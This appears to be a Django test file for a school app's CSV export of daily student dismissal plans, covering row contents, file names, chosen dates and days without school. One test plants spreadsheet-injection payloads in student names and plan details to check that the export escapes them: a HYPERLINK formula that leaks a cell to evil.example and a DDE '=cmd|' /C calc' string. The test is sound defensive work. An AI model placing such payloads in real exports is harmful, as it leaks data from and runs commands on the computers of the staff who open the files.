"""The CSV export of a day's plans."""

import csv
import datetime as dt
import io

from django.urls import reverse

from lastbell import testing
from lastbell.attendance.models import Absence
from lastbell.plans import services
from lastbell.plans.models import PlanChange
from lastbell.plans.services import PlanSpec

HEADER = [
    "Date", "Student ID", "Last name", "First name", "Grade", "Homeroom", "Plan", "Detail",
    "Bus", "Program", "Picked up by", "Time", "Comes from", "Source", "Set by", "Set at",
]  # fmt: skip
EVERY_DAY = range(5)


def _export(client, school, **params) -> list[list[str]]:
    r = client.get(reverse("plans:export", args=[school.id]), params)
    assert r.status_code == 200
    assert r["Content-Type"] == "text/csv; charset=utf-8"
    text = r.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the names as UTF-8
    return list(csv.reader(io.StringIO(text[1:])))


def _by_id(rows) -> dict[str, dict[str, str]]:
    return {row[1]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}


def test_it_exports_one_row_per_active_student(
    client, on_school_day, school, staff, student, route
):
    services.default_set(student=student, starts_on=on_school_day,
                         days=dict.fromkeys(EVERY_DAY, PlanSpec("bus", bus_route=route)),
                         actor=staff)  # fmt: skip
    ben = testing.make_student(school, first="Ben", last="Okafor", grade="4")
    testing.make_student(school, first="Dan", last="Gone", withdrawn_on=dt.date(2026, 10, 1))
    testing.make_student(school, first="Eve", last="Later", enrolled_on=dt.date(2026, 12, 1))
    client.force_login(staff)

    rows = _export(client, school)

    assert rows[0] == HEADER
    assert len(rows) == 3
    assert rows[1] == [
        "2026-11-18", ben.sis_id, "Okafor", "Ben", "4", "", "No plan", "", "", "", "", "",
        "", "", "", "",
    ]  # fmt: skip
    assert rows[2] == [
        "2026-11-18", student.sis_id, "Rivera", "Ana", "3", "Room 12", "Bus",
        "Bus 12 — North loop", "12", "", "", "", "Long-term default", "Staff", "Dana Office",
        "2026-11-18 09:00",
    ]  # fmt: skip


def test_it_names_the_file_after_the_school_and_date(client, on_school_day, school, staff):
    client.force_login(staff)

    r = client.get(reverse("plans:export", args=[school.id]), {"date": "2026-11-19"})

    assert r["Content-Disposition"] == (
        'attachment; filename="Lincoln Elementary plans 2026-11-19.csv"'
    )


def test_it_exports_the_plans_of_the_chosen_date(client, on_school_day, school, staff, student):
    PlanChange.objects.create(student=student, starts_on=dt.date(2026, 11, 19),
                              ends_on=dt.date(2026, 11, 19), plan_type="early_dismissal",
                              dismiss_at=dt.time(12, 30))  # fmt: skip
    Absence.objects.create(student=student, date=dt.date(2026, 11, 20))
    client.force_login(staff)

    thursday = _by_id(_export(client, school, date="2026-11-19"))[student.sis_id]
    friday = _by_id(_export(client, school, date="2026-11-20"))[student.sis_id]

    assert thursday["Date"] == "2026-11-19"
    assert (thursday["Plan"], thursday["Time"], thursday["Comes from"]) == (
        "Early dismissal",
        "12:30 pm",
        "Change",
    )
    assert (friday["Plan"], friday["Detail"], friday["Comes from"], friday["Source"]) == (
        "Absent",
        "Absent, not excused",
        "Attendance",
        "Import",
    )


def test_it_shows_a_past_day_as_it_was(
    client, time_machine, on_school_day, school, staff, student, route
):
    monday = dt.datetime(2026, 11, 16, 17, 0, tzinfo=dt.UTC)
    time_machine.move_to(monday, tick=False)
    services.default_set(student=student, starts_on=dt.date(2026, 11, 16),
                         days=dict.fromkeys(EVERY_DAY, PlanSpec("bus", bus_route=route)),
                         actor=staff)  # fmt: skip
    time_machine.move_to(monday + dt.timedelta(days=2), tick=False)
    services.default_set(
        student=student,
        starts_on=dt.date(2026, 11, 18),
        days=dict.fromkeys(EVERY_DAY, PlanSpec("walk")),
        actor=staff,
    )
    client.force_login(staff)

    yesterday = _by_id(_export(client, school, date="2026-11-17"))[student.sis_id]
    today = _by_id(_export(client, school))[student.sis_id]

    assert (yesterday["Plan"], yesterday["Bus"], yesterday["Set at"]) == (
        "Bus",
        "12",
        "2026-11-16 09:00",
    )
    assert (today["Plan"], today["Set at"]) == ("Walk", "2026-11-18 09:00")


def test_it_says_when_there_is_no_school(client, on_school_day, school, staff, student):
    client.force_login(staff)

    rows = _export(client, school, date="2026-11-21")

    assert rows == [HEADER, ["2026-11-21", "No school: weekend."]]


def test_it_keeps_spreadsheet_formulas_as_text(client, on_school_day, school, staff):
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    evil = testing.make_student(school, first="@SUM(A1:A9)", last=hyperlink)
    plus = testing.make_student(school, first="Pat", last="Plus")
    minus = testing.make_student(school, first="Mo", last="Minus")
    cmd = testing.make_student(school, first="Cy", last="Command")
    for pupil, plan in [
        (plus, {"plan_type": "other", "note": "+1 555 0100 calls at 3"}),
        (minus, {"plan_type": "other", "note": "-2+3 stays late"}),
        (cmd, {"plan_type": "pickup", "pickup_name": "=cmd|' /C calc'!A0"}),
        (evil, {"plan_type": "other", "note": "@evil"}),
    ]:
        PlanChange.objects.create(
            student=pupil, starts_on=on_school_day, ends_on=on_school_day, **plan
        )
    client.force_login(staff)

    rows = _export(client, school)

    by_id = _by_id(rows)
    assert (by_id[evil.sis_id]["Last name"], by_id[evil.sis_id]["First name"]) == (
        "'" + hyperlink,
        "'@SUM(A1:A9)",
    )
    assert by_id[evil.sis_id]["Detail"] == "'@evil"
    assert by_id[plus.sis_id]["Detail"] == "'+1 555 0100 calls at 3"
    assert by_id[minus.sis_id]["Detail"] == "'-2+3 stays late"
    assert by_id[cmd.sis_id]["Picked up by"] == "'=cmd|' /C calc'!A0"
    for row in rows[1:]:
        assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row), row


def test_it_names_the_file_of_a_school_with_any_characters(client, on_school_day, district, staff):
    school = testing.make_school(district, "Trường Tiểu học — East Campus")
    client.force_login(testing.make_staff(school))

    r = client.get(reverse("plans:export", args=[school.id]))

    disposition = r["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    assert "East%20Campus" in disposition or "East Campus" in disposition
